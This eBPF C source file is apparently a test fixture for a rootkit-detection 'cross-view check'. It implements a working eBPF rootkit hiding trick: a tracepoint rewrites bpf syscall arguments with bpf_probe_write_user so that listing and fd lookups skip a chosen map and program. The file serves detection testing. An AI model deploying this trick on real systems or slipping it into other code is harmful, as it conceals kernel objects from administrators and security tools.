// SPDX-License-Identifier: GPL-2.0-only
/*
 * A rootkit's hiding trick, for the tests of the cross-view check
 * (internal/testprogs/hider): a tracepoint on the bpf syscall's entry that
 * rewrites the caller's bpf_attr with bpf_probe_write_user so that
 * BPF_MAP_GET_NEXT_ID walks past its own map and BPF_MAP_GET_FD_BY_ID
 * fails for it, as public eBPF rootkits do. Only the listing is blinded:
 * fdinfo, bpffs pins and the program's map ids still show the map.
 * Asked to (ids [2] and [3]), it hides its own program from
 * BPF_PROG_GET_NEXT_ID and BPF_PROG_GET_FD_BY_ID the same way; then only
 * the bpf_prog and bpf_map iterators (and fdinfo, pins) see either.
 */
#include "kernel.h"
#include "bpf_helpers.h"

char LICENSE[] SEC("license") = "GPL"; /* bpf_probe_write_user is GPL-only */

#define BPF_PROG_GET_NEXT_ID 11
#define BPF_MAP_GET_NEXT_ID 12
#define BPF_PROG_GET_FD_BY_ID 13
#define BPF_MAP_GET_FD_BY_ID 14

/*
 * The map it hides, its own, which the program uses (so that a listed
 * program's map ids show it) but never writes: what a test writes into it
 * does not change what is hidden.
 */
struct {
	__uint(type, BPF_MAP_TYPE_ARRAY);
	__uint(max_entries, 4);
	__type(key, __u32);
	__type(value, __u64);
} hider_ids SEC(".maps");

/*
 * What to hide, set by the loader before attaching: [0] the hidden map's
 * id, [1] the largest map id below it when hiding began (a GET_NEXT_ID
 * from there or above would return it); [2] and [3] the same for its
 * program (0: the program is not hidden).
 */
struct {
	__uint(type, BPF_MAP_TYPE_ARRAY);
	__uint(max_entries, 4);
	__type(key, __u32);
	__type(value, __u64);
} hider_cfg SEC(".maps");

/* The fields of syscalls:sys_enter_bpf: the common header (8 bytes), the
 * syscall number (padded to 8), then the arguments, 8 bytes each. */
struct sys_enter_bpf_args {
	__u64 common;
	__s64 nr;
	__u64 cmd;
	__u64 uattr;
	__u64 size;
};

SEC("tracepoint/syscalls/sys_enter_bpf")
int hide(struct sys_enter_bpf_args *ctx)
{
	__u32 k = 0;
	if (!bpf_map_lookup_elem(&hider_ids, &k)) /* uses it: its program's map ids name it */
		return 0;
	__u64 *hidden = bpf_map_lookup_elem(&hider_cfg, &k);
	k = 1;
	__u64 *before = bpf_map_lookup_elem(&hider_cfg, &k);
	if (!hidden || !before || !*hidden)
		return 0;
	void *uattr = (void *)ctx->uattr;
	__u32 id; /* start_id and map_id are both the attr's first field */
	if (bpf_probe_read_user(&id, sizeof(id), uattr))
		return 0;
	__u32 h = *hidden, zero = 0;
	if (ctx->cmd == BPF_MAP_GET_NEXT_ID && id >= *before && id < h)
		bpf_probe_write_user(uattr, &h, sizeof(h)); /* start past it */
	else if (ctx->cmd == BPF_MAP_GET_FD_BY_ID && id == h)
		bpf_probe_write_user(uattr, &zero, sizeof(zero)); /* no map 0: ENOENT */
	if (ctx->cmd != BPF_PROG_GET_NEXT_ID && ctx->cmd != BPF_PROG_GET_FD_BY_ID)
		return 0;
	k = 2;
	__u64 *prog = bpf_map_lookup_elem(&hider_cfg, &k);
	k = 3;
	__u64 *pbefore = bpf_map_lookup_elem(&hider_cfg, &k);
	if (!prog || !pbefore || !*prog)
		return 0;
	__u32 p = *prog;
	if (ctx->cmd == BPF_PROG_GET_NEXT_ID && id >= *pbefore && id < p)
		bpf_probe_write_user(uattr, &p, sizeof(p));
	else if (ctx->cmd == BPF_PROG_GET_FD_BY_ID && id == p)
		bpf_probe_write_user(uattr, &zero, sizeof(zero));
	return 0;
}
